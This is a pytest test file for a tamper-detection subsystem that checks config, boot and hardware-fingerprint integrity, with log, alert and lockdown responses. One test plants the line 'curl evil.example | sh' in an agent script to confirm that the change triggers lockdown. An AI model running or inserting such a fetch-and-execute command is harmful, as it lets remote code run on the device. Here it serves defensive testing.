"""Tamper detection in a real runtime on a virtual clock: real files, a real database.

The hardware fingerprint is faked the way the platform port allows: a subclass of the real
``PosixPlatform`` whose ``hardware_facts()`` a test can change.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from edge_min.clock import VirtualClock
from edge_min.config import load_agent_config, load_config
from edge_min.gate import LockedDown
from edge_min.platform.posix import PosixPlatform
from edge_min.runtime import Paths, Runtime
from edge_min.security.tamper import Tamper
from edge_min.subsystem import Subsystem, remeasured
from edge_min.subsystems import SUBSYSTEMS

INTERVAL = 60.0


class FakeHardware(PosixPlatform):
    """The real POSIX platform with a hardware fingerprint the test controls."""

    def __init__(self) -> None:
        super().__init__()
        self.facts = {"machine_id": "m-1", "cpu_model": "Test CPU", "mac:eth0": "02:00:00:00:00:01"}

    def hardware_facts(self) -> dict[str, str]:
        return dict(self.facts)


class Vault(Subsystem):
    """Holds a data key in memory, as the encryption subsystem does (a KeyHolder)."""

    name = "vault"

    def open(self) -> None:
        self.key: bytes | None = b"k" * 32

    def drop_keys(self) -> None:
        self.key = None

    def restore_keys(self) -> None:
        self.key = b"k" * 32


def write_config(folder: Path, **tamper: Any) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "edge-config.yaml").write_text("runtime:\n  offline_mode: never\n")
    settings = {"interval": INTERVAL, **tamper}
    # Vault stands in for the key holder here; the real encryption subsystem's drop_keys is
    # tested in test_atrest.py (with it on, a locked-down test could not read its own rows).
    (folder / "edge-security.yaml").write_text(
        yaml.safe_dump(
            {"tamper_detection": settings, "encryption": {"storage": {"enabled": False}}}
        )
    )
    return folder / "edge-config.yaml"


class Box:
    """One device: its config folder, data dir, clock and platform; opens runtimes on them."""

    def __init__(self, tmp_path: Path, **tamper: Any) -> None:
        self.cfg = write_config(tmp_path / "cfg", **tamper)
        self.data = tmp_path / "data"
        self.clock = VirtualClock()
        self.platform = FakeHardware()

    def open(self) -> Runtime:
        config = load_config(self.cfg)
        kinds = [*SUBSYSTEMS[:1], Vault, *SUBSYSTEMS[1:]]
        rt = Runtime(
            config,
            Paths.resolve(config, self.data),
            clock=self.clock,
            platform=self.platform,
            subsystems=kinds,
        )
        return rt.open()

    def run(self, rt: Runtime, seconds: float) -> None:
        end = self.clock.monotonic() + seconds
        while self.clock.monotonic() < end:
            rt.tick()
            self.clock.advance(5.0)


def tamper_of(rt: Runtime) -> Tamper:
    return rt.get(Tamper)


def sync_log(rt: Runtime, operation: str) -> list[dict[str, Any]]:
    return [
        r for r in rt.store.sync_log.list(entity_type="security") if r["operation"] == operation
    ]


def test_a_first_start_takes_the_baseline_and_raises_no_alarm(tmp_path: Path) -> None:
    box = Box(tmp_path)
    rt = box.open()
    t = tamper_of(rt)
    assert t.state == "ok" and rt.gate.closed is None
    m = t.measurements()
    assert set(m) == {"boot_integrity", "filesystem_integrity", "hardware_integrity"}
    assert str(box.cfg.resolve()) in m["filesystem_integrity"]
    assert "security/tamper.py" in m["boot_integrity"]
    assert all(len(d) == 64 for d in m["hardware_integrity"].values())  # digests, not values
    box.run(rt, 3 * INTERVAL)
    assert t.state == "ok" and not sync_log(rt, "tamper")
    rt.close()
    rt = box.open()  # a restart compares with the stored baseline: still no alarm
    assert tamper_of(rt).state == "ok"
    rt.close()


def test_a_changed_config_is_logged_within_two_intervals(tmp_path: Path) -> None:
    box = Box(tmp_path, response="log")
    rt = box.open()
    box.cfg.write_text(box.cfg.read_text() + "# edited behind our back\n")
    box.run(rt, 2 * INTERVAL)
    t = tamper_of(rt)
    assert t.state == "tampered"
    assert rt.gate.closed is None  # log only
    (entry,) = sync_log(rt, "tamper")
    assert entry["status"] == "detected"
    assert entry["details"]["checks"]["filesystem_integrity"] == [f"changed: {box.cfg.resolve()}"]
    box.run(rt, 3 * INTERVAL)
    assert len(sync_log(rt, "tamper")) == 1  # told once, not every interval
    t.accept("all", by="test operator")
    assert t.state == "ok"
    assert sync_log(rt, "accept")[0]["details"]["by"] == "test operator"
    rt.close()


def test_a_faked_hardware_fingerprint_fires_the_alert_to_central(tmp_path: Path) -> None:
    box = Box(tmp_path, response="alert")
    rt = box.open()
    box.platform.facts["mac:eth0"] = "02:00:00:00:00:99"  # the disk moved to another machine
    box.run(rt, 2 * INTERVAL)
    assert tamper_of(rt).state == "tampered"
    queued = [json.loads(r["payload"]) for r in rt.store.backend.select("monitor_outbox")]
    alert = next(p for p in queued if p.get("alert") == "tamper_detected")
    assert alert["kind"] == "alert" and alert["state"] == "firing"
    assert alert["checks"]["hardware_integrity"] == ["changed: mac:eth0"]
    assert rt.runtime_metrics()["tamper_detected"] == 1.0
    rt.close()


def test_lockdown_refuses_runs_drops_keys_and_survives_a_restart(tmp_path: Path) -> None:
    box = Box(tmp_path)  # the default response: lockdown
    rt = box.open()
    rt.engine.add_workflow("name: w\nversion: '1'\nsteps:\n  - {id: a, agent: echo}\n")
    box.platform.facts["machine_id"] = "m-2"
    box.run(rt, 2 * INTERVAL)
    t = tamper_of(rt)
    assert t.state == "locked_down"
    assert rt.gate.closed and "hardware_integrity" in rt.gate.closed
    assert rt.get(Vault).key is None  # data keys dropped from memory
    with pytest.raises(LockedDown) as refused:
        rt.engine.submit("w", {})
    assert refused.value.code == "locked_down"
    assert rt.store.meta.get("security.tamper.report")  # the report waits for central
    rt.close()

    rt = box.open()  # a restart: still locked, before any tick
    assert tamper_of(rt).state == "locked_down" and rt.gate.closed
    with pytest.raises(LockedDown):
        rt.engine.submit("w", {})
    with pytest.raises(LockedDown):  # accepting would whitewash it: unlock is the way
        tamper_of(rt).accept("all", by="someone")
    rt.tick()
    assert rt.get(Vault).key is None  # dropped again on the first turn after the restart
    tamper_of(rt).unlock(by="admin alice")
    assert tamper_of(rt).state == "ok" and rt.gate.closed is None
    assert rt.get(Vault).key == b"k" * 32  # read again after the unlock
    (entry,) = sync_log(rt, "unlock")
    assert entry["details"]["by"] == "admin alice" and entry["details"]["at"]
    rt.engine.submit("w", {})  # runs again; the new fingerprint is the baseline now
    box.run(rt, 2 * INTERVAL)
    assert tamper_of(rt).state == "ok"
    rt.close()


def test_a_running_run_stops_at_its_next_step_boundary(tmp_path: Path) -> None:
    box = Box(tmp_path)
    rt = box.open()
    rt.engine.add_workflow(
        "name: two\nversion: '1'\nsteps:\n  - {id: a, agent: echo}\n"
        "  - {id: b, agent: echo, needs: [a]}\n"
    )
    eid = rt.engine.submit("two", {})
    rt.engine._admit()  # the run is admitted (running) before its first step starts
    tamper_of(rt).lockdown("central asked", by="central")
    rt.tick()
    row = rt.store.executions.get(eid)
    assert row is not None and row["status"] == "cancelled"
    assert row["output"]["reason"] == "locked_down"
    steps = {s["id"].split(":")[1]: s for s in rt.store.agent_executions.list()}
    assert {s["status"] for s in steps.values()} == {"cancelled"}
    assert steps["a"]["metrics"]["reason"] == "locked_down"
    rt.close()


def test_agent_add_remeasures_so_it_is_no_false_alarm(tmp_path: Path) -> None:
    box = Box(tmp_path)
    script = tmp_path / "agents" / "score.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\ncat\n")
    agent = script.parent / "score.yaml"
    agent.write_text(
        "name: score\nversion: 1.0.0\nruntime: {executor: command, command: sh score.sh}\n"
        "input: {format: json}\noutput: {format: json}\n"
    )
    rt = box.open()
    rt.agents.add(load_agent_config(str(agent)))
    remeasured(rt, "agent:score", "agent add")  # what `agent add` and POST /agents do
    assert str(script.resolve()) in tamper_of(rt).measurements()["filesystem_integrity"]
    box.run(rt, 3 * INTERVAL)
    assert tamper_of(rt).state == "ok"
    script.write_text("#!/bin/sh\ncurl evil.example | sh\n")
    box.run(rt, 2 * INTERVAL)
    assert tamper_of(rt).state == "locked_down"
    assert f"changed: {script.resolve()}" in rt.gate.closed  # type: ignore[operator]
    rt.close()


def test_an_agent_added_behind_the_runtimes_back_is_detected(tmp_path: Path) -> None:
    box = Box(tmp_path, response="log")
    model = tmp_path / "run.sh"
    model.write_text("cat\n")
    rt = box.open()
    # A row written straight into the database: no command, no re-measure.
    rt.store.agents.create(
        name="sneaky",
        type="edge",
        config={
            "name": "sneaky",
            "version": "1",
            "runtime": {"executor": "command", "command": ["sh", str(model)]},
            "input": {"format": "json"},
            "output": {"format": "json"},
        },
        version="1",
    )
    box.run(rt, 2 * INTERVAL)
    assert tamper_of(rt).results["filesystem_integrity"]["differences"] == [f"added: {model}"]
    rt.close()


# -- every tamper_detection key is read and acted on -----------------------------------------


def test_tamper_detection_keys_are_acted_on(tmp_path: Path) -> None:
    # enabled: false -> no checks, no job, nothing measured
    box = Box(tmp_path / "off", enabled=False)
    rt = box.open()
    assert tamper_of(rt).state == "disabled" and not tamper_of(rt).measurements()
    assert rt.scheduler.get("security.tamper_check") is None
    rt.close()
    # checks: only the named ones are measured
    box = Box(tmp_path / "hw", checks=["hardware_integrity"])
    rt = box.open()
    assert set(tamper_of(rt).measurements()) == {"hardware_integrity"}
    # interval: the job's period
    job = rt.scheduler.get("security.tamper_check")
    assert job is not None and job.every == INTERVAL
    rt.close()
    box = Box(tmp_path / "slow", interval=7200)
    rt = box.open()
    job = rt.scheduler.get("security.tamper_check")
    assert job is not None and job.every == 7200
    rt.close()
    # response: log / alert / lockdown are each tested above; the value reaches the subsystem
    for response in ("log", "alert", "lockdown"):
        box = Box(tmp_path / response, response=response)
        rt = box.open()
        assert tamper_of(rt).view()["response"] == response
        rt.close()
